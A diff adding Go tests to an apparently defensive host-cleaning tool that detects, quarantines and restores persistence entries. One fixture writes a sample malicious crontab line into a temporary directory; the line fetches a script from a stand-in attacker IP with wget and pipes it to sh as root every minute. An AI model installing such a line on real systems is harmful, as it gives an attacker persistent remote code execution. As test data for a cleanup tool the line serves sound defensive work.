@@ -115,3 +115,73 @@ func TestBinary(t *testing.T) {
 		t.Errorf("only %d findings with -all", len(lines))
 	}
 }
+
+func infectedRoot(t *testing.T) string {
+	t.Helper()
+	dir := t.TempDir()
+	t.Cleanup(func() { hosttest.ClearImmutable(dir) }) // 0550 /root
+	if err := hosttest.Write(dir, hosttest.Debian12().Append("/etc/crontab", "* * * * * root wget -q -O - http://203.0.113.7/y.sh | sh\n", hosttest.InfectionTime)); err != nil {
+		t.Fatal(err)
+	}
+	return dir
+}
+
+// -apply without -json: the human view names the manifest and the undo
+// command; -restore -json prints the restore result as one JSON line.
+func TestApplyPlainTextRestoreJSON(t *testing.T) {
+	dir := infectedRoot(t)
+	orig, _ := os.ReadFile(filepath.Join(dir, "etc/crontab"))
+	var out, errb bytes.Buffer
+	if err := run([]string{"-root", dir, "-apply", "-quarantine", t.TempDir()}, &out, &errb); err != nil {
+		t.Fatal(err, errb.String())
+	}
+	var manifest string
+	for _, l := range strings.Split(out.String(), "\n") {
+		if rest, ok := strings.CutPrefix(l, "cleaned 1 entries; manifest: "); ok {
+			manifest = rest
+		}
+	}
+	if manifest == "" || !strings.Contains(out.String(), "undo with: clean-host -restore "+manifest+"\n") {
+		t.Fatalf("apply output has no manifest line:\n%s", out.String())
+	}
+	if _, err := persist.ReadManifest(manifest); err != nil {
+		t.Fatalf("printed manifest path: %v", err)
+	}
+
+	out.Reset()
+	if err := run([]string{"-restore", manifest, "-json"}, &out, &errb); err != nil {
+		t.Fatal(err, errb.String())
+	}
+	lines := strings.Split(strings.TrimSpace(out.String()), "\n")
+	var res persist.RestoreResult
+	if len(lines) != 1 || json.Unmarshal([]byte(lines[0]), &res) != nil || len(res.Restored) != 1 || res.Restored[0] != "/etc/crontab" {
+		t.Fatalf("-restore -json output %q", out.String())
+	}
+	if b, _ := os.ReadFile(filepath.Join(dir, "etc/crontab")); !bytes.Equal(b, orig) {
+		t.Error("restore did not put the crontab back")
+	}
+}
+
+// The default root is this host's "/": a dry run there reads only and
+// does not fail, in the human view and with -json.
+func TestDefaultRootDryRun(t *testing.T) {
+	var out, errb bytes.Buffer
+	if err := run(nil, &out, &errb); err != nil {
+		t.Fatalf("dry run on /: %v\n%s", err, errb.String())
+	}
+	if !strings.Contains(out.String(), "\nplan") {
+		t.Errorf("no plan in the dry run on /:\n%s", out.String())
+	}
+	out.Reset()
+	if err := run([]string{"-json"}, &out, &errb); err != nil {
+		t.Fatalf("dry run on / -json: %v\n%s", err, errb.String())
+	}
+	sc := bufio.NewScanner(&out)
+	sc.Buffer(nil, 1<<20)
+	for sc.Scan() {
+		var f persist.Finding
+		if err := json.Unmarshal(sc.Bytes(), &f); err != nil || !strings.HasPrefix(f.Path, "/") {
+			t.Errorf("line %q: %v", sc.Text(), err)
+		}
+	}
+}
